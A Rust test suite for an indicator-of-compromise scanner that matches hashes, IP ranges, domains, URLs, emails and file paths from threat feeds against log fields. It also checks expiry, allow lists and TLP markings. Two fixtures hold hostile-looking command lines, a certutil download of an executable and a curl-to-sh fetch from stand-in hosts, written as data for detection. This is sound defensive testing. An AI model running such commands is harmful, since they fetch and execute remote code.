//! What is found in which field, and what is not.

use std::sync::Arc;

use khien_detect::{Indicators, IocCounters, IocFormat, IocScanner, Level, Tlp};
use khien_event::{Batch, Context, Format, parse};

use super::{NOW_US, found, load, loaded, seen};
use crate::harness::events;

const MD5: &str = "0123456789abcdef0123456789abcdef";
const SHA1: &str = "0123456789abcdef0123456789abcdef01234567";
const SHA256: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn list(lines: &[&str]) -> Arc<Indicators> {
    loaded(&lines.join("\n"), IocFormat::List)
}

#[test]
fn hashes_are_found_in_every_spelling() {
    let set = list(&[MD5, SHA1, SHA256, &format!("imphash:{}", MD5.replace('0', "f"))]);
    assert_eq!(set.len(), 4);
    let imphash = MD5.replace('0', "F").to_uppercase();
    let all = format!(
        r#""Hashes":"SHA1={},MD5={},SHA256={SHA256},IMPHASH={imphash}""#,
        SHA1.to_uppercase(),
        MD5.to_uppercase()
    );
    assert_eq!(
        seen(&set, &all),
        [
            format!("Hashes sha1 {SHA1}"),
            format!("Hashes md5 {MD5}"),
            format!("Hashes sha256 {SHA256}"),
            format!("Hashes imphash {}", MD5.replace('0', "f")),
        ]
    );
    assert_eq!(seen(&set, &format!(r#""sha256":"{SHA256}""#)).len(), 1);
    assert_eq!(seen(&set, &format!(r#""fileHash":"{MD5}""#)).len(), 1);
    assert_eq!(seen(&set, &format!(r#""Imphash":"{imphash}""#)).len(), 1);
    assert_eq!(seen(&set, &format!(r#""Hashes":"x=1;sha256:{SHA256}""#)).len(), 1);
    assert_eq!(seen(&set, &format!(r#""Hashes":"IMPHASH={imphash}""#)).len(), 1);
    // An MD5 is no import hash, and a hash no other field's business.
    for members in [
        format!(r#""Imphash":"{MD5}""#),
        format!(r#""Hashes":"IMPHASH={MD5}""#),
        format!(r#""Hashes":"MD5={}""#, &MD5[..31]),
        format!(r#""Hashes":"SHA256={SHA1}""#),
        format!(r#""Hashes":"MD5=é{MD5}""#),
        format!(r#""Image":"{MD5}""#),
        r#""Hashes":"","MD5":null,"SHA1":7"#.to_owned(),
    ] {
        assert!(seen(&set, &members).is_empty(), "{members}");
    }
}

#[test]
fn addresses_and_ranges_are_found() {
    let set = list(&[
        "203.0.113.9",
        "198.51.100.0/24",
        "198.51.100.128/25",
        "192.0.2.10-192.0.2.12",
        "2001:db8::1",
        "2001:db8:1::/48",
    ]);
    for (value, expected) in [
        ("203.0.113.9", vec!["DestinationIp ip 203.0.113.9"]),
        ("::ffff:203.0.113.9", vec!["DestinationIp ip 203.0.113.9"]),
        ("203.0.113.9:443", vec!["DestinationIp ip 203.0.113.9"]),
        ("203.0.113.8", vec![]),
        ("198.51.100.7", vec!["DestinationIp range 198.51.100.0/24"]),
        ("198.51.100.200", vec!["DestinationIp range 198.51.100.128/25"]),
        ("192.0.2.10", vec!["DestinationIp range 192.0.2.10/31"]),
        ("192.0.2.12", vec!["DestinationIp ip 192.0.2.12"]),
        ("192.0.2.13", vec![]),
        ("2001:db8:0::1", vec!["DestinationIp ip 2001:db8::1"]),
        ("2001:db8:1:2::3", vec!["DestinationIp range 2001:db8:1::/48"]),
        ("2001:db8:2::3", vec![]),
        ("-", vec![]),
    ] {
        assert_eq!(seen(&set, &format!(r#""DestinationIp":"{value}""#)), expected, "{value}");
    }
    assert_eq!(seen(&set, r#""c-ip":"203.0.113.9""#).len(), 1);
    assert_eq!(seen(&set, r#""cs-host":"203.0.113.9:8080""#).len(), 1);
    // Seen twice in an event, told once, under the first field.
    let twice = r#""SourceIp":"203.0.113.9","DestinationIp":"203.0.113.9""#;
    assert_eq!(seen(&set, twice), ["SourceIp ip 203.0.113.9"]);
}

#[test]
fn domains_are_found_with_all_below_them() {
    let set = list(&["evil.test", "deep.down.evil.test", "xấu.test"]);
    for (value, expected) in [
        ("evil.test", Some("evil.test")),
        ("EVIL.test.", Some("evil.test")),
        ("www.evil.test", Some("evil.test")),
        ("a.deep.down.evil.test", Some("deep.down.evil.test")),
        ("notevil.test", None),
        ("evil.test.other", None),
        ("test", None),
        ("xấu.test", Some("xn--xu-r5s.test")),
        ("XN--XU-R5S.test", Some("xn--xu-r5s.test")),
        (".", None),
    ] {
        let expected: Vec<String> =
            expected.iter().map(|name| format!("QueryName domain {name}")).collect();
        let hits = seen(&set, &format!(r#""QueryName":"{value}""#));
        assert_eq!(hits, expected, "{value}");
    }
    let answers = r#""QueryResults":"type:  5 cdn.evil.test;::ffff:203.0.113.9;""#;
    assert_eq!(seen(&set, answers), ["QueryResults domain evil.test"]);
    assert_eq!(seen(&set, r#""cs-host":"www.evil.test:8080""#).len(), 1);
    assert_eq!(seen(&set, r#""duser":"an <an@evil.test>""#), ["duser domain evil.test"]);
}

#[test]
fn web_addresses_are_found_with_all_below_them() {
    let set = list(&[
        "http://evil.test/kit/",
        "https://files.test:8443/x.php?id=5",
        "http://203.0.113.9/a",
        "http://bare.test/",
    ]);
    for (value, hits) in [
        ("http://evil.test/kit", 1),
        ("https://EVIL.test:443/kit/a.php?x=1", 1),
        ("http://user@evil.test/kit?x", 1),
        ("http://evil.test/%6bit/", 1),
        ("http://evil.test/a/../kit/", 1),
        ("http://evil.test/kitten", 0),
        ("http://evil.test/", 0),
        ("http://www.evil.test/kit", 0),
        ("http://files.test:8443/x.php?id=5&a=b", 1),
        ("http://files.test:8443/x.php?id=55", 0),
        ("http://files.test/x.php?id=5", 0),
        ("http://203.0.113.9:80/a/b", 1),
        ("http://bare.test/anything", 1),
        ("bare.test", 1),
        ("/kit", 0),
        ("://", 0),
    ] {
        assert_eq!(seen(&set, &format!(r#""request":"{value}""#)).len(), hits, "{value}");
    }
    let apart = r#""cs-uri":"/kit/a?b","cs-host":"evil.test""#;
    assert_eq!(seen(&set, apart), ["cs-uri url evil.test/kit"]);
    let text = r#""CommandLine":"certutil -urlcache -f \"http://evil.test/kit/x.exe\" x.exe""#;
    assert_eq!(seen(&set, text), ["CommandLine url evil.test/kit"]);
    let domains = list(&["evil.test", "203.0.113.9"]);
    let text = r#""CommandLine":"curl http://203.0.113.9/ http://a.evil.test:81|sh""#;
    assert_eq!(
        seen(&domains, text),
        ["CommandLine ip 203.0.113.9", "CommandLine domain evil.test"]
    );
}

#[test]
fn mail_addresses_and_files_are_found() {
    let set = list(&[
        "Boss@Evil.test",
        "dropper.exe",
        "C:\\Perf\\x.ps1",
        "/dev/shm/.x",
        "Tài Liệu Mật.exe",
    ]);
    for (members, expected) in [
        (r#""suser":"boss@evil.test""#, vec!["suser email boss@evil.test"]),
        (r#""from":"\"B\" <BOSS@evil.TEST>, x@y.test""#, vec!["from email boss@evil.test"]),
        (r#""suser":"notboss@evil.test""#, vec![]),
        (r#""User":"PROVINCE\\boss""#, vec![]),
        (r#""Image":"C:\\Users\\a\\DROPPER.exe""#, vec!["Image file_name dropper.exe"]),
        (r#""TargetFilename":"dropper.exe""#, vec!["TargetFilename file_name dropper.exe"]),
        (r#""Image":"C:\\dropper.exe\\other.exe""#, vec![]),
        (r#""Image":"C:\\notdropper.exe""#, vec![]),
        (r#""Image":"c:/perf/X.ps1""#, vec!["Image file_path c:/perf/x.ps1"]),
        (r#""Image":"D:\\perf\\x.ps1""#, vec![]),
        (r#""exe":"/dev/shm/.x""#, vec!["exe file_path /dev/shm/.x"]),
        (r#""exe":"/a/dev/shm/.x""#, vec![]),
        (r#""Image":"C:\\Ta\u0300i Liệu MẬT.exe""#, vec!["Image file_name tài liệu mật.exe"]),
    ] {
        assert_eq!(seen(&set, members), expected, "{members}");
    }
    let anywhere = list(&["\\Perf\\x.ps1", "tmp/y.sh"]);
    for drive in ["C", "D"] {
        let members = format!(r#""Image":"{drive}:\\Perf\\x.ps1""#);
        assert_eq!(seen(&anywhere, &members), ["Image file_path /perf/x.ps1"]);
    }
    assert_eq!(seen(&anywhere, r#""Image":"C:\\a\\Perf\\x.ps1""#).len(), 0);
    assert_eq!(seen(&anywhere, r#""exe":"/var/tmp/y.sh""#), ["exe file_path tmp/y.sh"]);
}

#[test]
fn the_event_tells_whether_an_indicator_was_still_valid() {
    let set = loaded(
        "value,valid_until\nevil.test,2026-06-01T00:00:00Z\nwww.evil.test,2026-01-01\n",
        IocFormat::Csv,
    );
    let at = |time: &str, name: &str| {
        seen(&set, &format!(r#""@timestamp":"{time}","QueryName":"{name}""#))
    };
    assert_eq!(at("2026-06-01T00:00:00Z", "evil.test").len(), 1);
    assert_eq!(at("2026-06-01T00:00:01Z", "evil.test").len(), 0);
    // The longer one has expired, the shorter one has not.
    assert_eq!(at("2026-03-01T00:00:00Z", "www.evil.test"), ["QueryName domain evil.test"]);
    assert_eq!(at("2025-12-01T00:00:00Z", "www.evil.test"), ["QueryName domain www.evil.test"]);
    // Without a time of its own, the event counts as of its receipt.
    let mut scanner = IocScanner::new(set.clone());
    let (batch, mut hits) = (events(r#"{"QueryName":"evil.test"}"#), Vec::new());
    scanner.scan(&batch, NOW_US, &mut hits);
    assert!(hits.is_empty());
    assert_eq!(scanner.take_counters(), IocCounters { expired: 1, allowed: 0 });
    scanner.scan(&batch, 0, &mut hits);
    assert_eq!((hits.len(), scanner.take_counters()), (1, IocCounters::default()));
}

#[test]
fn the_allow_list_wins_at_loading_and_at_matching() {
    let mut builder = Indicators::builder();
    let refused = builder.allow("*.good.evil.test # ours\nwhat is this\n203.0.113.128/25\n");
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].0, 2);
    builder.text(
        "feed",
        b"gov.vn\nx.gov.vn\n10.0.0.1\ngood.evil.test\n203.0.113.200\nevil.test\n203.0.113.0/24\n",
    );
    let (set, report) = builder.finish();
    assert_eq!((set.len(), report.allowed(), report.refused()), (2, 5, 0));
    assert_eq!(report.sources[0].allowed_named[0], "gov.vn");
    let set = Arc::new(set);
    assert_eq!(seen(&set, r#""QueryName":"www.evil.test""#).len(), 1);
    assert_eq!(seen(&set, r#""QueryName":"www.good.evil.test""#).len(), 0);
    assert_eq!(seen(&set, r#""DestinationIp":"203.0.113.1""#).len(), 1);
    assert_eq!(seen(&set, r#""DestinationIp":"203.0.113.129""#).len(), 0);
    let mut scanner = IocScanner::new(set);
    scanner.scan(&events(r#"{"QueryName":"good.evil.test"}"#), NOW_US, &mut Vec::new());
    assert_eq!(scanner.take_counters(), IocCounters { expired: 0, allowed: 1 });
}

#[test]
fn two_feeds_that_agree_are_one_hit() {
    let mut builder = Indicators::builder();
    builder.text("first", b"evil.test # Emotet\nevil.test\n");
    builder.text("second", b"evil.test\n");
    let (set, report) = builder.finish();
    assert_eq!((set.len(), report.duplicates), (2, 1));
    let set = Arc::new(set);
    let mut hits = Vec::new();
    let batch = events(r#"{"QueryName":"evil.test"}"#);
    IocScanner::new(set.clone()).scan(&batch, NOW_US, &mut hits);
    assert_eq!((hits.len(), hits[0].more), (1, 1));
    let indicator = set.indicator(&hits[0]);
    assert_eq!(indicator.source.to_str(), Some("first"));
    assert_eq!((indicator.about, indicator.line), ("Emotet", Some(1)));
}

#[test]
fn the_strictest_marking_of_a_value_speaks() {
    let mut builder = Indicators::builder();
    builder.text("open", b"# TLP:CLEAR\nwww.evil.test\n203.0.113.0/24\n");
    builder.text("closed", b"value,tlp\nwww.evil.test,green\nwww.evil.test,TLP:RED\n");
    builder
        .text("wide", b"evil.test # TLP:RED\n203.0.113.0/24 # TLP:AMBER\n203.0.0.0/16 # TLP:RED\n");
    let set = Arc::new(builder.finish().0);
    let mut hits = Vec::new();
    let lines = "{\"QueryName\":\"www.evil.test\"}\n{\"DestinationIp\":\"203.0.113.7\"}\n";
    IocScanner::new(set.clone()).scan(&events(lines), NOW_US, &mut hits);
    let told: Vec<_> = hits.iter().map(|hit| (set.indicator(hit), hit.more)).collect();
    // Wider ones stay behind the narrowest, however they are marked.
    assert_eq!((told[0].0.tlp, &*told[0].0.value, told[0].1), (Some(Tlp::Red), "www.evil.test", 3));
    assert_eq!(told[0].0.source.to_str(), Some("closed"));
    assert_eq!(
        (told[1].0.tlp, &*told[1].0.value, told[1].1),
        (Some(Tlp::Amber), "203.0.113.0/24", 2)
    );
}

#[test]
fn what_devices_say_in_words_is_looked_through() {
    let set = list(&[
        "evil.test",
        "203.0.113.9",
        "198.51.100.0/24",
        "http://files.test/kit",
        "boss@mail.test",
    ]);
    let said = |format: Format, text: &str| -> Vec<String> {
        let (mut batch, mut hits) = (Batch::new(), Vec::new());
        parse(format, text.as_bytes(), &Context::received(NOW_US), &mut batch);
        IocScanner::new(set.clone()).scan(&batch, NOW_US, &mut hits);
        hits.iter().map(|hit| set.indicator(hit).value.into_owned()).collect()
    };
    for (message, expected) in [
        (
            "Built outbound TCP connection 7 for outside:203.0.113.9/443 (203.0.113.9/443)",
            vec!["203.0.113.9"],
        ),
        (
            "srcip=10.0.0.7 dstip=198.51.100.20 hostname=\"www.EVIL.test\"",
            vec!["198.51.100.0/24", "evil.test"],
        ),
        (
            "10.0.0.7 TCP_MISS/200 GET http://files.test/kit/a - DIRECT/203.0.113.9:80.",
            vec!["files.test/kit", "203.0.113.9"],
        ),
        (
            "warning: from=<boss@mail.test>, to=<an@evil.test>: ",
            vec!["boss@mail.test", "evil.test"],
        ),
        ("query: evil.test. IN A, then notevil.test and 1203.0.113.9; … 3.14", vec!["evil.test"]),
        ("xin chào.bạn ....:::---. @", vec![]),
    ] {
        let line = format!("<134>1 2026-11-20T00:00:00Z fw1 dev - - - {message}\n");
        assert_eq!(said(Format::Syslog, &line), expected, "{message}");
    }
    // Whoever writes fields has said it there.
    assert_eq!(said(Format::Json, r#"{"message":"evil.test","Image":"x"}"#).len(), 0);
}

#[test]
fn a_hit_is_told_like_one_of_a_rule() {
    let set = loaded(
        "value,description,reference,tlp,id\nevil.test,Emotet C2,https://intel.test/1,TLP:AMBER,77\n",
        IocFormat::Csv,
    );
    let mut hits = Vec::new();
    let batch = events(r#"{"QueryName":"evil.test"}"#);
    IocScanner::new(set.clone()).scan(&batch, NOW_US, &mut hits);
    let indicator = set.indicator(&hits[0]);
    assert_eq!((indicator.id.as_str(), indicator.line), ("77", None));
    let rule = indicator.rule_info();
    assert_eq!((rule.id.as_str(), rule.level), ("ioc:domain:evil.test", Level::High));
    assert_eq!(rule.family, rule.id);
    assert_eq!(rule.title_vi.as_deref(), Some("Trùng chỉ dấu tấn công: tên miền evil.test"));
    assert_eq!((rule.link.as_str(), rule.tags), ("https://intel.test/1", vec!["tlp.amber".into()]));
    assert_eq!((rule.description.as_str(), rule.file.as_str()), ("Emotet C2", "feed"));

    let long = format!("http://evil.test/{}", "a".repeat(900));
    let (set, _) = load(&long);
    let mut hits = Vec::new();
    let batch = events(&format!(r#"{{"Url":"{long}"}}"#));
    IocScanner::new(set.clone()).scan(&batch, NOW_US, &mut hits);
    let id = set.indicator(&hits[0]).rule_id();
    assert!(id.len() < 200 && id.starts_with("ioc:url:evil.test/aaa"), "{id}");
}

#[test]
fn batches_with_other_names_are_learnt_anew() {
    let set = list(&["evil.test", "203.0.113.9"]);
    let mut scanner = IocScanner::new(set);
    let mut hits = Vec::new();
    for lines in [
        r#"{"a":"evil.test","QueryName":"evil.test"}"#,
        r#"{"b":"1","c":"2","DestinationIp":"203.0.113.9","a":"evil.test"}"#,
    ] {
        scanner.scan(&events(lines), NOW_US, &mut hits);
    }
    let fields: Vec<_> = hits.iter().map(|hit| hit.field).collect();
    assert_eq!(fields, ["QueryName", "DestinationIp"]);
}

#[test]
fn hits_name_their_events() {
    let set = list(&["evil.test"]);
    let lines = "{\"QueryName\":\"good.test\"}\n{\"QueryName\":\"evil.test\"}\n";
    assert_eq!(found(&set, lines), ["1 QueryName domain evil.test"]);
}

#[test]
fn many_events_at_once_are_told_like_each_alone() {
    let (set, report) = load(
        "value,type,valid_until\nevil.test,domain,\n203.0.113.9,ip,\n198.51.100.0/24,ip,\n\
         http://files.test/kit,url,\nboss@mail.test,email,\nold.test,domain,2020-01-01\n\
         0123456789abcdef0123456789abcdef,md5,\n",
    );
    assert_eq!((set.len(), report.refused()), (7, 0));
    let line = |n: usize| match n % 997 {
        0 => r#"{"QueryName":"www.evil.test","DestinationIp":"198.51.100.7"}"#.to_owned(),
        1 => r#"{"Url":"http://files.test/kit/a","SourceIp":"203.0.113.9"}"#.to_owned(),
        2 => r#"{"Hashes":"SHA1=1,MD5=0123456789ABCDEF0123456789ABCDEF","to":"boss@mail.test"}"#
            .to_owned(),
        3 => {
            r#"{"QueryResults":"type: 5 evil.test;203.0.113.9;","QueryName":"old.test"}"#.to_owned()
        }
        4 => r#"{"cs-host":"files.test","cs-uri":"/kit/b","to":"an@evil.test"}"#.to_owned(),
        _ => format!(r#"{{"QueryName":"a{n}.good.test","SourceIp":"192.0.2.{}"}}"#, n % 256),
    };
    let lines: Vec<String> = (0..6_000).map(line).collect();
    let mut scanner = IocScanner::new(set.clone());
    let mut together = Vec::new();
    scanner.scan(&events(&lines.join("\n")), NOW_US, &mut together);
    let counters = scanner.take_counters();
    assert_eq!(counters, IocCounters { expired: 7, allowed: 0 });
    let mut alone = Vec::new();
    for (event, line) in lines.iter().enumerate() {
        let from = alone.len();
        scanner.scan(&events(line), NOW_US, &mut alone);
        alone[from..].iter_mut().for_each(|hit| hit.event = event);
    }
    assert_eq!((&together, counters), (&alone, scanner.take_counters()));
    assert_eq!(together.len(), 5 * 2 * 6_000_usize.div_ceil(997));
}
